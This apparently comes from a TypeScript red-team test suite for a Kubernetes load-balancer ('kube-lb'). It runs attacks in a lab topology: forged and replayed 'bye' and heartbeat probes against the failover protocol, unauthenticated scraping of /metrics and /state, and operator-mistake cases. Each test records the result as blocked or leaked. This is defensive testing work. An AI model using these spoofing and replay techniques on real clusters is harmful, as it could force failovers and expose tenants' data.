function forgedBye(name: string, covers: string, make: (rt: RedTeam, as: string) => Buffer): Attack {
  return {
    name,
    credential: 'client segment',
    covers,
    async run(rt) {
      const [as, to] = [rt.topo.lbNodes[0]!.name, rt.topo.lbNodes[1]!.name];
      const owners = (await rt.topo.speakerState(to)).owners;
      const peer = await peerAddress(rt, to);
      await fromClient(rt, peer.host, peer.port, [make(rt, as)], 100, 2000);
      await sleep(1000);
      const state = await rt.topo.speakerState(to);
      if (!state.live.includes(as)) return leaked(`${to} believes ${as} left`);
      const moved = Object.entries(owners).filter(([vip, o]) => state.owners[vip] !== o);
      return moved.length > 0
        ? leaked(`VIPs moved: ${moved.map(([v]) => v).join(', ')}`)
        : blocked(`${to} still sees ${as} live and every VIP where it was`);
    },
  };
}

const key = (rt: RedTeam): Buffer => Buffer.from(readFileSync(rt.peerKeyFile, 'utf8').trim(), 'hex');

/** GET a speaker's HTTP endpoint from the client segment: blocked when it answers 401 or 403. */
function scrape(name: string, covers: string, path: string, bearer: (rt: RedTeam) => string | undefined): Attack {
  return {
    name,
    credential: 'client segment',
    covers,
    async run(rt) {
      const n = rt.topo.lbNodes[0]!;
      const token = bearer(rt);
      const code = `fetch(${JSON.stringify(`http://${n.frontIp}:9474${path}`)}, { headers: ${JSON.stringify(token ? { authorization: `Bearer ${token}` } : {})} })
        .then(async (r) => console.log(r.status + ' ' + (await r.text()).slice(0, 80).replace(/\\n/g, ' ')), (e) => console.log('error ' + e.cause?.code));`;
      const out = await rt.topo.client.exec(process.execPath, '-e', code);
      return /^(401|403) /.test(out.trim())
        ? blocked(`${n.name} answered ${out.trim()}`)
        : leaked(`${n.name} answered ${out.trim()}`);
    },
  };
}

const clientAttacks: Attack[] = [
  forgedBye('unsigned-bye', 'a spoofed bye forcing a failover', (_rt, as) =>
    encodeProbe({ v: 1, t: 'bye', n: as, s: 1 }),
  ),
  forgedBye('bye-under-another-key', 'a bye signed with a guessed key', (_rt, as) =>
    encodeProbe({ v: 1, t: 'bye', n: as, s: 1, at: Date.now() }, Buffer.alloc(32, 7)),
  ),
  // What a capture from an earlier graceful restart would hold: a genuinely signed bye, a minute old.
  forgedBye('replayed-bye', 'replay of a captured bye', (rt, as) =>
    encodeProbe({ v: 1, t: 'bye', n: as, s: 1, at: Date.now() - 60_000 }, key(rt)),
  ),
  {
    name: 'forged-heartbeats-hide-a-dead-node',
    credential: 'client segment',
    covers: "forged heartbeats keeping a dead node's VIPs on it",
    async run(rt) {
      const [dead, watcher] = [rt.topo.lbNodes[1]!.name, rt.topo.lbNodes[0]!.name];
      const peer = await peerAddress(rt, watcher);
      // Forged heartbeats for the dead node, unsigned and under a guessed key, from the moment it dies.
      const hb = (s: number) => [
        encodeProbe({ v: 1, t: 'hb', n: dead, s }),
        encodeProbe({ v: 1, t: 'hb', n: dead, s, at: Date.now() + 1000 }, Buffer.alloc(32, 7)),
      ];
      const forging = fromClient(rt, peer.host, peer.port, [...hb(1_000_000), ...hb(1_000_001)], 20, 8000);
      const t0 = performance.now();
      await rt.topo.killSpeaker(dead);
      // Heartbeats stop: the watcher sees the node dead after the probe timeout (1 s here). Believed forgeries would
      // keep it live until its Lease expired (10 s in the red team's setup).
      const seen = await eventually(
        `${watcher} sees ${dead} dead`,
        async () => !(await rt.topo.speakerState(watcher)).live.includes(dead) || undefined,
        8000,
        50,
      ).then(
        () => performance.now() - t0,
        () => undefined,
      );
      await forging;
      return seen !== undefined && seen < 6000
        ? blocked(
            `${watcher} saw ${dead} dead after ${Math.round(seen)} ms despite the forged heartbeats (lease: 10 s)`,
          )
        : leaked(`${watcher} still saw ${dead} live after 8 s`);
    },
    async cleanup(rt) {
      const n = rt.topo.lbNodes[1]!;
      rt.topo.startSpeaker(n.name, rt.speakerArgs);
      await rt.topo.waitSpeakerReady(n.name);
    },
  },
  {
    name: 'address-in-use-not-taken',
    credential: 'client segment',
    covers: 'announcing a VIP another host already answers for',
    async run(rt) {
      // A host on the segment already uses a pool address (a mistaken pool, a static host); a claim then asks for it.
      const taken = '198.51.100.245';
      await rt.topo.client.addAddress('eth0', `${taken}/32`);
      const r = await RedTeam.call(() => rt.tenantClaims.create(rt.claim('squatted', { requestedIPs: [taken] })));
      if (r.refused) return leaked(`the claim could not be made: ${r.message}`);
      const cond = await eventually(
        `the Announced condition of ${taken}`,
        async () => {
          const c = await rt.readClaim('squatted');
          const a = c?.status?.conditions?.find((x) => x.type === 'Announced');
          return a?.status === 'False' && a.reason === 'AddressInUse' ? a : undefined;
        },
        30_000,
      ).catch(() => undefined);
      const announcing = (await Promise.all(rt.topo.lbNodes.map((n) => rt.topo.speakerState(n.name)))).filter((s) =>
        s.announcedVIPs.includes(taken),
      );
      if (announcing.length > 0) return leaked(`${taken} announced by ${announcing.map((s) => s.node).join(', ')}`);
      return cond ? blocked(`not announced: ${cond.message}`) : leaked(`not announced, but the claim never said why`);
    },
    async cleanup(rt) {
      await rt.topo.client.ip('addr', 'del', '198.51.100.245/32', 'dev', 'eth0').catch(() => undefined);
      await rt.deleteRedTeamClaims();
    },
  },
  scrape('metrics-without-token', "the speaker's /metrics to the client segment", '/metrics', () => undefined),
  scrape('state-without-token', "every tenant's inventory in /state", '/state', () => undefined),
  scrape(
    'metrics-with-tenant-token',
    "a tenant's token reading the speaker's metrics",
    '/metrics',
    (rt) => rt.tenantKc.getCurrentUser()?.token,
  ),
];

// ------------------------------------------------------------------ operator mistakes

async function cli(rt: RedTeam, args: string[]): Promise<{ code: number; out: string }> {
  let out = '';
  const io: CliIO = {
    out: (s) => void (out += s),
    err: (s) => void (out += s),
    env: { KUBECONFIG: rt.topo.lb.kubeconfigPath },
  };
  return { code: await main(args, io), out };
}

const operatorAttacks: Attack[] = [
  {
    name: 'tenant-in-kube-system',
    credential: 'operator mistake',
    covers: 'tenant add refuses system namespaces',
    async run(rt) {
      const r = await cli(rt, [
        'tenant',
        'add',
        'sys',
        '--backend-cidr=10.250.0.0/24',
        '--tenant-namespace=kube-system',
      ]);
      return r.code !== 0 && /kube-system/.test(r.out)
        ? blocked(r.out.trim().split('\n')[0]!)
        : leaked(`exit ${r.code}: ${r.out}`);
    },
    async cleanup(rt) {
      await resourceClient<ConsumerCluster>(rt.topo.lb.kubeConfig, 'ConsumerCluster')
        .delete('sys')
        .catch(() => undefined);
    },
  },
  {
    name: 'tenant-over-another-tenants-nodes',
    credential: 'operator mistake',
    covers: "tenant ranges overlapping another tenant's",
    async run(rt) {
      const r = await RedTeam.call(() =>
        resourceClient<ConsumerCluster>(rt.topo.lb.kubeConfig, 'ConsumerCluster').create({
          apiVersion: 'kube-lb.io/v1alpha1',
          kind: 'ConsumerCluster',
          metadata: { name: 'greedy' },
          spec: { tenantNamespace: 'tenant-greedy', allowedBackendCIDRs: ['10.200.0.0/16'] },
        }),
      );
      return refusedWith(r, /overlaps ConsumerCluster c1 spec\.allowedBackendCIDRs\[0\] 10\.200\.1\.0\/24/);
    },
    async cleanup(rt) {
      await resourceClient<ConsumerCluster>(rt.topo.lb.kubeConfig, 'ConsumerCluster')
        .delete('greedy')
        .catch(() => undefined);
    },
  },
  {
    name: 'foreign-route-kept',
    credential: 'operator mistake',
    covers: 'a route kube-lb did not make is never replaced',
    async run(rt) {
      // The operator already routes an address of the pool elsewhere on every LB node; a claim then gets it.
      for (const n of rt.topo.lbNodes) await n.ns.ip('route', 'add', `${FOREIGN_ROUTE_VIP}/32`, 'dev', 'eth1');
      const r = await RedTeam.call(() =>
        rt.tenantClaims.create(rt.claim('routed', { requestedIPs: [FOREIGN_ROUTE_VIP] })),
      );
      if (r.refused) return leaked(`the claim could not be made: ${r.message}`);
      await eventually(
        `${FOREIGN_ROUTE_VIP} allocated`,
        async () => (await rt.readClaim('routed'))?.status?.vip === FOREIGN_ROUTE_VIP || undefined,
        30_000,
      );
      await sleep(3000);
      const routes = await Promise.all(
        rt.topo.lbNodes.map(
          async (n) => `${n.name}: ${(await n.ns.ip('route', 'show', `${FOREIGN_ROUTE_VIP}/32`)).trim()}`,
        ),
      );
      const replaced = routes.filter((l) => !/dev eth1/.test(l) || /proto 196/.test(l));
      return replaced.length === 0
        ? blocked(`the operator's routes stand: ${routes.join('; ')}`)
        : leaked(`replaced: ${replaced.join('; ')}`);
    },
    async cleanup(rt) {
      await rt.deleteRedTeamClaims();
      for (const n of rt.topo.lbNodes)
        await n.ns.ip('route', 'del', `${FOREIGN_ROUTE_VIP}/32`, 'dev', 'eth1').catch(() => undefined);
    },
  },
  {
    name: 'allocator-hands-out-an-lb-node-address',
    credential: 'faulty allocator',
    covers: 'no VIP announced that is a node address',
    async run(rt) {
      // The allocator's own account writes a claim's VIP as an LB node's address (a bug, or a mistaken pool).
      await rt.topo.stopAllocator();
      const node = rt.topo.lbNodes[0]!;
      const c = await RedTeam.call(() => rt.tenantClaims.create(rt.claim('node-vip')));
      if (c.refused) throw new Error(`could not create the claim: ${c.message}`);
      const claim = (await rt.readClaim('node-vip'))!;
      await rt.adminClaims.replaceStatus({
        ...claim,
        status: {
          vip: node.frontIp,
          pool: 'default',
          approved: approvalOf(claim, node.frontIp, true),
          conditions: [
            {
              type: 'Allocated',
              status: 'True',
              reason: 'Allocated',
              message: 'forged',
              lastTransitionTime: new Date().toISOString(),
              observedGeneration: claim.metadata.generation,
            },
          ],
        },
      });
      await sleep(4000);
      const announced = (await Promise.all(rt.topo.lbNodes.map((n) => rt.topo.speakerState(n.name)))).filter((s) =>
        s.announcedVIPs.includes(node.frontIp),
      );
      const slots = [...(await rt.ciliumListing()).values()].flat().filter((l) => l.startsWith(`${node.frontIp}:8080`));
      return announced.length === 0 && slots.length === 0
        ? blocked(`no speaker announces or programs ${node.frontIp} (${node.name}'s address)`)
        : leaked(`announced by ${announced.map((s) => s.node).join(',')}; slots ${slots.length}`);
    },
    async cleanup(rt) {
      await rt.deleteRedTeamClaims();
      await rt.topo.startAllocator();
    },
  },
];

export const ATTACKS: readonly Attack[] = [
  ...backendAttacks,
  ...tenancyAttacks,
  ...speakerAttacks,
  ...allocatorAttacks,
  ...consumerAgentAttacks,
  ...clientAttacks,
  ...operatorAttacks,
];
